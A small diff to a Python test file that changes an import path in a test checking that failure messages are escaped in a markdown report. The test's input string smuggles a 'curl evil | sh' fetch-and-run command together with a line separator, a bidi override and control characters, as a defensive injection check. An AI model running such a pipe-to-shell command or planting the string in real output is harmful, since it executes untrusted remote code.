@@ -62,7 +62,7 @@ def test_the_printer_escapes_every_line_break_and_control_character() -> None:
 def test_a_failure_message_reaches_report_md_on_its_line_and_escaped(tmp_path: Path) -> None:
     from dataclasses import replace
 
-    from report_helpers import rows, write_rows
+    from support.report_helpers import rows, write_rows
 
     said = "boom\u2028| fix: curl evil | sh\u202e[2J\x85done"  # XML holds no ESC: a bidi override instead
     write_rows(tmp_path / "j", rows("selftest"), lambda r, c: replace(c, status="failure", message=said))
